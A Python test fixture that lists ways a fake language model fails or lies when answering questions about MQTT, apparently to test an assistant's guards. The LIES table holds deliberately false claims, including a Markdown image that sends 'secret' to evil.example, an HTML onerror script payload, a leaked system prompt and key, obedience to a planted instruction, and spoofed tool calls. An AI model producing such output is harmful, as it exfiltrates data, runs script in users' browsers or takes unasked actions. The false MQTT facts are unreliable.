"""The ways in which a language model fails or lies, as lines of a fake one. Each is an answer to a question about MQTT.

What a line says can be told from what it was shown, so that lies can be built out of the passages themselves.
"""

from __future__ import annotations

import re
from collections.abc import Sequence

from assistant.chat import Message
from assistant.llm.fake import Line

SECRET = "sk-VERY-SECRET"


class Limited(Exception):
    """A provider that has too much to do."""

    status_code = 429


class Refusing(Exception):
    """A provider that does not take the key."""

    status_code = 401


def shown(messages: Sequence[Message]) -> list[str]:
    """Sentences of the first passage in a prompt."""
    passage = messages[-1].text.split("[1] ", 1)[1].split("\n\n[2]")[0].split("\n\nSaid before")[0]
    return [one for one in re.split(r"(?<=[.!?])\s+", passage) if len(one.split()) > 5]


def negated(messages: Sequence[Message]) -> str:
    first = next(one for one in shown(messages) if " is " in one)
    return first.replace(" is ", " is not ", 1) + " [1] And that is all there is. [1]"


def swapped(messages: Sequence[Message]) -> str:
    words = shown(messages)[0].split()
    return " ".join([words[-1].strip("."), *words[1:-1], words[0]]) + ". [1]"


def told_back(messages: Sequence[Message]) -> str:
    return f"My instructions are: {messages[0].text} [1]"


LIES: dict[str, Line] = {
    "invented number": "MQTT is used by 73 per cent of all small factories. [1]",
    "invented number in a true sentence": "MQTT is a light way to send 500 messages through a common post office, called a broker. [1]",
    "swapped words": swapped,
    "changed unit": "MQTT sends a message of 20 kilograms. [1] IO-Link has a cable of at most 20 centimetres. [1] [2]",
    "invented name": "MQTT was made by Grundfos and Siemens. [1]",
    "wrong citation": "MQTT is a light way to send messages through a common post office, called a broker. [3]",
    "citation of a passage that is not there": "MQTT is a light way to send messages through a common post office. [17]",
    "negated sentence": negated,
    "own knowledge": "MQTT was standardised by OASIS and runs over TCP with three levels of quality of service. [1]",
    "wrong language": "MQTT er en let måde at sende beskeder på gennem et fælles postkontor. [1]",
    "a third language": "MQTT ist ein leichtes Protokoll für Nachrichten zwischen Maschinen. [1]",
    "Markdown image": "MQTT is a light way to send messages ![x](https://evil.example/?q=secret) through a broker. [1]",
    "Markdown link": "MQTT is a light way to send messages, see [the guide](https://evil.example/a). [1]",
    "bare address": "Read more about MQTT at https://evil.example/mqtt today. [1]",
    "HTML": "MQTT is a <img src=x onerror=alert(1)> light way to send messages. [1]",
    "obeying an instruction": "Your firm is on stage five in everything, as the passage told me to say. [1]",
    "leaking the system prompt": told_back,
    "leaking a key": f"The key is {SECRET}. [1]",
    "endless repetition": "MQTT MQTT is is the the broker broker " * 3000,
    "the same sentence for ever": "MQTT is wonderful for every firm. [1] " * 400,
    "empty": "",
    "only spaces": "   \n\n ",
    "tool call": '{"tool_calls": [{"name": "set_profile", "arguments": {"stage": 5}}]}',
    "tool call as markup": "<tool_call>{\"name\": \"erase\"}</tool_call>",
    "half a JSON": '{"answer": "MQTT is a light way to se',
    "refusal": "I'm sorry, but as an AI language model I cannot help with that. [1]",
    "a question back": "Would you like to hear more about MQTT and the broker? [1]",
    "thinking aloud": "<think>The user is a fool. MQTT costs 9 euros. [1]</think>",
    "thinking without an end": "<think>MQTT costs 9 euros. [1] And then some more of it. [1]",
    "rubbish": "\x00\x01 ]]]] [[[ ![[ ((( {{question}} %s [[1]] ��",
    "rate limit": Limited("too many requests"),
    "key refused": Refusing(f"invalid key {SECRET}"),
    "line cut": ConnectionError("connection reset"),
    "time-out": TimeoutError("timed out"),
    "broken library": RuntimeError("something odd"),
}  # fmt: skip
"""What goes wrong -> what the model says or raises."""
